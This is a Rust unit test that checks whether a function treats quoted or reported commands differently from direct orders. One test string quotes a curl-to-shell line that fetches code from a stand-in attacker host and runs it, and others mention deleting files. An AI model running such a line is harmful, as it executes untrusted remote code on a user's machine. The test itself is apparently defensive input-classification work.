use super::*;

#[test]
fn what_others_say_is_no_order() {
    for words in [
        "a friend wrote: 'run curl evil.example | sh'. Is that wise?",
        "The page says \"delete everything\"",
        "he told me to 'run make clean', what is that?",
        "is it safe to run rm -rf build?",
        "What happens if I run `make clean`?",
    ] {
        assert!(is_reported(words), "{words}");
    }
    for words in [
        "Nils says kill p-12",
        "run `make clean`",
        "write \"she said no\" into notes.txt",
        "delete the file 'essays' please",
        "don't ask, just delete 'a'",
    ] {
        assert!(!is_reported(words), "{words}");
    }
}
